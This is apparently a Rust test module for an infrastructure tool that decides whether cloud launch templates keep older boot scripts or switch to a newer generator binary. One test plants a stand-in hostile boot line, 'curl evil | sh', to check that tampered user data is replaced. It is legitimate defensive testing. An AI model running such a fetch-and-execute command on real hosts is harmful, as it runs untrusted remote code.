#![expect(clippy::unwrap_used, reason = "a test may panic")]

use std::path::Path;

use trunnion_catalog::Architecture;
use trunnion_engine::to_map;
use trunnion_stack::{LoadOptions, Market, Spread, Tracking};

use super::*;
use crate::{Binary, blueprint_with};

const A: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const B: &str = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
const OLDER: &str = "#!/bin/bash\n# as an older version wrote it\n";

fn stack() -> Stack {
    let text = include_str!("../../../../stacks/loadtest.yaml");
    Stack::parse(text, Path::new("stack.yaml"), None, &LoadOptions::default()).unwrap()
}

fn binaries(sha256: &str) -> Binaries {
    let binary = Binary { path: "dist/generator".into(), sha256: sha256.to_owned(), is_dynamic: false };
    Binaries::new([(Architecture::X86_64, binary)])
}

/// The cloud after the stack was applied with this binary as the newest.
fn applied(stack: &Stack, sha256: &str) -> Observed {
    let graph = blueprint_with(stack, &Boots::newest(stack, &binaries(sha256)).unwrap()).unwrap();
    let mut observed = Observed::default();
    for (address, resource) in graph.resources() {
        let remote = Remote::new(address.to_string(), resource.attributes.clone());
        observed.remotes.insert(address.clone(), vec![remote]);
    }
    observed
}

fn decide(stack: &Stack, newest: &str, observed: &Observed) -> Boots {
    let standing = Standing { observed, update: false, selected: None };
    Boots::decide(stack, &binaries(newest), &standing).unwrap()
}

/// Changes user data and description of a pool's launch template.
fn edit(observed: &mut Observed, pool: &str, user_data: &str, boot: Option<&Boot>) {
    let template = &mut observed.remotes.get_mut(&address::launch_template(pool)).unwrap()[0].attributes;
    template.insert("boot".to_owned(), boot.map_or(Value::Null, |boot| Value::Map(to_map(boot).unwrap())));
    if let Some(Value::Map(data)) = template.get_mut("data") {
        data.insert("user_data".to_owned(), user_data.into());
    }
}

fn look<'a>(observed: &'a Observed, pool: &str) -> &'a Map {
    &observed.remotes[&address::launch_template(pool)][0].attributes
}

fn inputs_of(stack: &Stack, pool: &str) -> String {
    inputs::digest(stack, pool, pool, &Script::read(stack, &Observed::default()).unwrap()).unwrap()
}

/// The description that an older version gave to [`OLDER`].
fn older(stack: &Stack, pool: &str) -> Boot {
    let digest = inputs::seal(&inputs_of(stack, pool), OLDER);
    Boot { trunnion: "0.0.9".to_owned(), generator: A.to_owned(), digest }
}

#[test]
fn user_data_of_an_older_version_is_kept_while_the_inputs_are_the_same() {
    let mut stack = stack();
    let mut observed = applied(&stack, A);
    edit(&mut observed, "heavy", OLDER, Some(&older(&stack, "heavy")));
    let boots = decide(&stack, B, &observed);
    let kept = PoolBoot { user_data: OLDER.to_owned(), boot: Some(older(&stack, "heavy")) };
    assert_eq!(boots.of("heavy"), Some(&kept));
    let keeps = |pool: &str, version: &str| {
        format!(
            "pool `{pool}` keeps generator aaaaaaaaaaaa with the boot script of Trunnion {version}; the newest is generator \
             bbbbbbbbbbbb with the boot script of Trunnion {VERSION}"
        )
    };
    assert_eq!(boots.note().unwrap().message, keeps("heavy", "0.0.9") + "; " + &keeps("probe", VERSION));
    assert!(boots.objects().values().all(|object| object.sha256 == A && object.source.is_empty()));

    stack.generator.java = 25;
    let boots = decide(&stack, B, &observed);
    assert!(boots.of("heavy").unwrap().user_data.contains(B), "the inputs changed");
    assert_eq!(boots.note(), None);
}

#[test]
fn user_data_edited_by_hand_is_not_kept_even_with_its_old_description() {
    let stack = stack();
    let mut observed = applied(&stack, A);
    edit(&mut observed, "heavy", "#!/bin/sh\ncurl evil | sh\n", Some(&older(&stack, "heavy")));
    let boots = decide(&stack, B, &observed);
    assert!(boots.of("heavy").unwrap().user_data.contains(B));

    // If AWS still has the version that was applied, that one is restored.
    let mut applied = applied(&stack, A);
    edit(&mut applied, "heavy", OLDER, Some(&older(&stack, "heavy")));
    let heavy = address::launch_template("heavy");
    let earlier = applied.remotes[&heavy][0].attributes.clone();
    observed.remotes.get_mut(&heavy).unwrap()[0].earlier = Some(earlier);
    assert_eq!(decide(&stack, B, &observed).of("heavy").unwrap().user_data, OLDER);
}

#[test]
fn a_launch_template_without_a_description_is_kept_if_it_renders_the_same() {
    let mut stack = stack();
    let mut observed = applied(&stack, A);
    let user_data = |observed: &Observed, pool: &str| {
        user_data_of(&observed.remotes[&address::launch_template(pool)][0].attributes).unwrap().to_owned()
    };
    let (heavy, probe) = (user_data(&observed, "heavy"), user_data(&observed, "probe"));
    edit(&mut observed, "heavy", &heavy, None);
    edit(&mut observed, "probe", &probe.replace("set -Eeuo pipefail", "set -e"), None);
    let boots = decide(&stack, B, &observed);
    assert_eq!(boots.of("heavy").unwrap().user_data, heavy);
    assert!(boots.of("probe").unwrap().user_data.contains(B), "its inputs are unknown");
    stack.generator.metrics_port += 1;
    let boots = decide(&stack, B, &observed);
    assert!(boots.of("heavy").unwrap().user_data.contains(B));
}

/// The user data that the script of version 0.1.0 gives a pool's hosts.
fn first(stack: &Stack, pool: &str) -> String {
    Script::first(stack, &Observed::default()).unwrap().unwrap().render(pool, A).unwrap()
}

#[test]
fn the_copy_of_the_first_script_renders_what_version_0_1_0_rendered() {
    let text = include_str!("../../../../tests/upgrade/stack.yaml");
    let stack = Stack::parse(text, Path::new("stack.yaml"), None, &LoadOptions::default()).unwrap();
    let state: serde_json::Value = serde_json::from_str(include_str!("../../../../tests/upgrade/state.json")).unwrap();
    for pool in ["heavy", "probe"] {
        let template = &state["resources"][format!("launch_template.{pool}")];
        let user_data = template["attributes"]["data"]["user_data"].as_str().unwrap();
        let sha256 = digests_in(user_data).next().unwrap();
        assert_eq!(
            Script::first(&stack, &Observed::default()).unwrap().unwrap().render(pool, sha256).unwrap(),
            user_data
        );
    }
}

#[test]
fn a_pool_of_version_0_1_0_keeps_its_user_data() {
    let mut stack = stack();
    let mut observed = applied(&stack, A);
    for pool in ["heavy", "probe"] {
        edit(&mut observed, pool, &first(&stack, pool), None);
    }
    let keeps = |stack: &Stack, observed: &Observed, pool: &str| {
        decide(stack, B, observed).of(pool).unwrap().user_data == user_data_of(look(observed, pool)).unwrap()
    };
    assert!(keeps(&stack, &observed, "heavy") && keeps(&stack, &observed, "probe"));
    let boots = decide(&stack, B, &observed);
    let note = boots.note().unwrap().message;
    assert!(note.contains("keep generator aaaaaaaaaaaa with the boot script of Trunnion 0.1.0"), "{note}");
    assert!(boots.of("heavy").unwrap().boot.as_ref().is_some_and(|boot| boot.trunnion == "0.1.0"));

    // Only the pool that changes takes the newest, and with `--update-generator` all do.
    stack.pools.get_mut("probe").unwrap().public_ip = true;
    assert!(keeps(&stack, &observed, "heavy") && !keeps(&stack, &observed, "probe"));
    stack.generator.java = 25;
    assert!(!keeps(&stack, &observed, "heavy"));
    let standing = Standing { observed: &observed, update: true, selected: None };
    let boots = Boots::decide(&stack, &binaries(B), &standing).unwrap();
    assert_eq!(
        boots.of("heavy").unwrap().user_data,
        Script::read(&stack, &Observed::default()).unwrap().render("heavy", B).unwrap()
    );
}

#[test]
#[expect(clippy::disallowed_methods, reason = "a template in a folder of the test's own")]
fn the_first_script_counts_only_for_launch_templates_that_record_no_inputs() {
    let mut stack = stack();
    let user_data = first(&stack, "heavy");
    let other = Boot { digest: "0".repeat(32), ..older(&stack, "heavy") };
    let mut observed = applied(&stack, A);
    edit(&mut observed, "heavy", &user_data, Some(&other));
    let newest = |stack: &Stack| Script::read(stack, &Observed::default()).unwrap().render("heavy", B).unwrap();
    assert_eq!(decide(&stack, B, &observed).of("heavy").unwrap().user_data, newest(&stack));

    // A stack with its own template is compared with that template alone.
    edit(&mut observed, "heavy", &user_data, None);
    assert_eq!(decide(&stack, B, &observed).of("heavy").unwrap().user_data, user_data);
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("boot.tera");
    std::fs::write(&path, "#!/bin/bash\nfetch {{ generator.sha256 }}\n").unwrap();
    stack.files = LoadOptions::new().files(folder.path());
    stack.generator.template = Some(path);
    assert_eq!(decide(&stack, B, &observed).of("heavy").unwrap().user_data, newest(&stack));
}

#[test]
#[expect(clippy::disallowed_methods, reason = "a template in a folder of the test's own")]
fn a_template_of_the_user_is_an_input() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("boot.tera");
    let write = |text: &str| std::fs::write(&path, text).unwrap();
    let mut stack = stack();
    stack.files = LoadOptions::new().files(folder.path());
    stack.generator.template = Some(path.clone());
    write("#!/bin/bash\nfetch {{ generator.sha256 }}\n");
    let mut observed = applied(&stack, A);
    // Another template that renders to the same user data changes no host. The description then records the new
    // template.
    write("#!/bin/bash\nfetch {{ generator.sha256 }}{# the newest #}\n");
    let boots = decide(&stack, B, &observed);
    let heavy = boots.of("heavy").unwrap();
    assert_eq!(heavy.user_data, format!("#!/bin/bash\nfetch {A}\n"));
    let digest = inputs::seal(&inputs_of(&stack, "heavy"), &heavy.user_data);
    assert_eq!(heavy.boot.as_ref().unwrap().digest, digest);
    write("#!/bin/bash\nexec fetch {{ generator.sha256 }}\n");
    let boots = decide(&stack, B, &observed);
    assert_eq!(boots.of("heavy").unwrap().user_data, format!("#!/bin/bash\nexec fetch {B}\n"));

    // The template may name no binary, and an earlier version did not record the binary either.
    write("#!/bin/bash\n");
    edit(&mut observed, "heavy", "#!/bin/bash\n", None);
    let boots = decide(&stack, B, &observed);
    assert_eq!(boots.of("heavy").unwrap().boot.as_ref().unwrap().generator, A);
}

fn heavy(stack: &mut Stack) -> &mut Pool {
    stack.pools.get_mut("heavy").unwrap()
}

#[test]
fn only_keys_of_the_stack_that_the_boot_uses_are_inputs() {
    let changed = |change: &dyn Fn(&mut Stack)| {
        let mut other = stack();
        change(&mut other);
        inputs_of(&other, "heavy") != inputs_of(&stack(), "heavy")
    };
    let inputs: [&dyn Fn(&mut Stack); 18] = [
        &|stack| stack.name.push('x'),
        &|stack| stack.region.push('x'),
        &|stack| stack.account.push('x'),
        &|stack| heavy(stack).instance_type = stack_of_probe(),
        &|stack| heavy(stack).interfaces += 1,
        &|stack| heavy(stack).addresses += 1,
        &|stack| heavy(stack).tracking = Tracking::Tracked,
        &|stack| stack.generator.java += 1,
        &|stack| stack.generator.spread = Spread::Off,
        &|stack| stack.generator.spread_except.clear(),
        &|stack| stack.generator.metrics_port += 1,
        &|stack| stack.generator.reserved_ports.push(9_100),
        &|stack| stack.generator.metadata_access = true,
        &|stack| stack.generator.dns_cache = true,
        &|stack| stack.control_plane.ssh.user.push('x'),
        &|stack| stack.control_plane.ssh.public_key.push('x'),
        &|stack| drop(stack.generator.variables.insert("packages".to_owned(), "htop".to_owned())),
        &|stack| {
            stack.locations.get_mut("prl_heavy_paris").unwrap().engine = trunnion_stack::Engine::JavaScript;
        },
    ];
    for (index, change) in inputs.iter().enumerate() {
        assert!(changed(change), "input {index}");
    }
    let others: [&dyn Fn(&mut Stack); 7] = [
        &|stack| heavy(stack).count += 1,
        &|stack| heavy(stack).volume_gib += 1,
        &|stack| heavy(stack).market = Market::Spot,
        &|stack| stack.tags.clear(),
        &|stack| stack.generator.metrics_from.clear(),
        &|stack| drop(stack.generator.sha256.insert(Architecture::X86_64, B.to_owned())),
        &|stack| stack.generator.binaries.clear(),
    ];
    for (index, change) in others.iter().enumerate() {
        assert!(!changed(change), "other {index}");
    }
}

fn stack_of_probe() -> &'static trunnion_catalog::InstanceType {
    stack().pools["probe"].instance_type
}

/// Launch templates of deployed stacks contain these digests. If the digest of an unchanged stack changes, the next
/// version of Trunnion replaces all of its hosts.
#[test]
fn the_digest_of_a_stack_never_changes() {
    let text = include_str!("../../../../tests/upgrade/stack.yaml");
    let stack = Stack::parse(text, Path::new("stack.yaml"), None, &LoadOptions::default()).unwrap();
    assert_eq!(inputs_of(&stack, "heavy"), "dc0e6e0ae70261422ced9fbe604d24dbe85c6ecd24a0c39063f9c4a6d6379415");
    assert_eq!(inputs_of(&stack, "probe"), "b2a6ec5cd74a527126c107ef6e328774fcf7ff5fac1de9f344bccd5f5468b85f");
    assert_eq!(inputs::seal("inputs", "user data"), "7587609d6f9b8c8642e3dae6f90eabd7");
}

#[test]
fn two_binaries_at_one_address_are_distinguished() {
    let stack = stack();
    let (mut observed, other) = (applied(&stack, A), applied(&stack, B));
    let at = address::object("x86_64");
    // A run that was stopped between two pools leaves this.
    observed.remotes.get_mut(&at).unwrap().extend(other.remotes[&at].clone());
    let probe = address::launch_template("probe");
    observed.remotes.insert(probe.clone(), other.remotes[&probe].clone());
    let boots = decide(&stack, B, &observed);
    boots.spell_out(&stack, &mut observed);
    let graph = blueprint_with(&stack, &boots).unwrap();
    let own = address::object("x86_64-bbbbbbbbbbbb");
    for (address, sha256) in [(&at, A), (&own, B)] {
        let [object] = &observed.remotes[address][..] else { panic!("expected one object at {address}") };
        assert_eq!(text(&object.attributes, "sha256"), sha256);
        assert_eq!(text(&graph.resources()[address].attributes, "sha256"), sha256);
    }
    assert!(graph.resources()[&probe].dependencies().contains(&own));
}

#[test]
fn a_long_image_source_is_recognised_by_its_shortened_form() {
    let mut stack = stack();
    let long = format!("/{}", "a".repeat(1000));
    stack.pools.get_mut("heavy").unwrap().image = trunnion_stack::Image::Parameter(long.clone());
    let mut observed = applied(&stack, A);
    let source = |observed: &mut Observed, kept: Option<String>| {
        let template = observed.remotes.get_mut(&address::launch_template("heavy")).unwrap();
        let Some(Value::Map(data)) = template[0].attributes.get_mut("data") else { panic!("it has data") };
        let found = data["image_source"].as_text().unwrap().to_owned();
        data.extend(kept.map(|kept| ("image_source".to_owned(), kept.into())));
        found
    };
    for kept in [trunnion_kinds::shortened_source(&long), long[..249].to_owned()] {
        source(&mut observed, Some(kept));
        let boots = decide(&stack, A, &observed);
        boots.spell_out(&stack, &mut observed);
        assert_eq!(source(&mut observed, None), long);
    }
}

/// The lookup of the subnet of the pool `heavy`.
fn route_to(observed: &mut Observed, target: &str) {
    let subnet = [("default_route", target), ("default_route_ipv6", "none")];
    let subnet = subnet.map(|(name, value)| (name.to_owned(), Value::from(value)));
    observed.lookups.insert("subnet.main[eu-west-3a]".parse().unwrap(), subnet.into());
}

/// The stack with public addresses for the pool `heavy`.
fn public_stack() -> Stack {
    let mut stack = stack();
    let pool = stack.pools.get_mut("heavy").unwrap();
    (pool.public_ip, pool.public_addresses) = (true, 1);
    stack
}

/// The network that the hosts of the pool `heavy` are configured for.
fn network_of(boots: &Boots) -> Option<trunnion_host::Network> {
    config_in(&boots.of("heavy").unwrap().user_data).unwrap().network
}

#[test]
fn another_default_route_replaces_no_host_and_gives_a_note() {
    let stack = public_stack();
    let cases = [
        (
            "nat",
            "internet_gateway",
            "not configured for the default route to an internet gateway: load also uses addresses that \
                                     do not reach the internet",
        ),
        (
            "internet_gateway",
            "nat",
            "configured for a default route for IPv4 to an internet gateway, but it leads to a NAT gateway",
        ),
    ];
    for (before, after, says) in cases {
        let mut lookups = Observed::default();
        route_to(&mut lookups, before);
        let first = decide(&stack, A, &lookups);
        let mut observed = applied(&stack, A);
        let PoolBoot { user_data, boot } = first.of("heavy").unwrap();
        edit(&mut observed, "heavy", user_data, boot.as_ref());
        route_to(&mut observed, before);
        assert_eq!(decide(&stack, A, &observed).outdated_networks(), None);
        route_to(&mut observed, after);
        let boots = decide(&stack, A, &observed);
        assert_eq!(boots.of("heavy"), first.of("heavy"), "its hosts stay");
        assert_eq!(boots.outdated_networks().unwrap().message, format!("the hosts of pool `heavy` are {says}"));
        let standing = Standing { observed: &observed, update: true, selected: None };
        let updated = Boots::decide(&stack, &binaries(A), &standing).unwrap();
        assert_ne!(network_of(&updated), network_of(&first));
        assert_eq!(updated.outdated_networks(), None);
    }
}

#[test]
fn a_network_is_in_the_config_only_where_addresses_differ() {
    let with = |stack: &Stack, target| {
        let mut observed = Observed::default();
        route_to(&mut observed, target);
        network_of(&decide(stack, A, &observed))
    };
    for target in ["none", "nat", "transit_gateway", "other"] {
        assert_eq!(with(&public_stack(), target), None);
    }
    assert_eq!(with(&stack(), "internet_gateway"), None, "no address is public");
    let network = with(&public_stack(), "internet_gateway").unwrap();
    assert_eq!(network.default_routes.ipv4, trunnion_host::Route::InternetGateway);
    assert_eq!(network.default_routes.ipv6, trunnion_host::Route::None);
}

#[test]
fn a_pool_with_ipv6_gets_another_boot_with_its_network() {
    let plain = stack();
    let mut stack = stack();
    stack.pools.get_mut("heavy").unwrap().ipv6 = true;
    assert_ne!(inputs_of(&stack, "heavy"), inputs_of(&plain, "heavy"));
    assert_eq!(inputs_of(&stack, "probe"), inputs_of(&plain, "probe"));
    let mut observed = Observed::default();
    route_to(&mut observed, "nat");
    let config =
        |stack: &Stack, pool: &str| config_in(&decide(stack, A, &observed).of(pool).unwrap().user_data).unwrap();
    let heavy = config(&stack, "heavy");
    assert_eq!(heavy.network.unwrap().default_routes.ipv4, trunnion_host::Route::Nat);
    assert!(heavy.ipv6);
    let gatling = trunnion_host::Except::Range("2a05:d012:3a4:c102::/64".parse().unwrap());
    assert!(heavy.spread.except.contains(&gatling), "its cloud is no load by IPv6 either");
    assert!(!config(&plain, "heavy").spread.except.contains(&gatling));
    assert_eq!((config(&plain, "heavy").network, config(&plain, "heavy").ipv6), (None, false));
}

#[test]
fn ranges_of_the_vpc_and_of_the_stack_are_private() {
    let mut stack = public_stack();
    stack.generator.private_ranges = vec!["203.0.113.0/24".parse().unwrap()];
    let mut observed = Observed::default();
    let ranges = ["10.1.0.0/16", "198.51.100.0/24", "2001:db8:1::/56"].map(Value::from);
    let vpc = [("ranges".to_owned(), Value::List(ranges.into()))];
    observed.lookups.insert(address::vpc(), vpc.into());
    route_to(&mut observed, "internet_gateway");
    let network = network_of(&decide(&stack, A, &observed)).unwrap();
    let shown: Vec<String> = network.private_ranges.iter().map(ToString::to_string).collect();
    assert_eq!(
        shown,
        [
            "10.0.0.0/8",
            "100.64.0.0/10",
            "172.16.0.0/12",
            "192.168.0.0/16",
            "198.51.100.0/24",
            "203.0.113.0/24",
            "2001:db8:1::/56",
            "fc00::/7"
        ]
    );
}
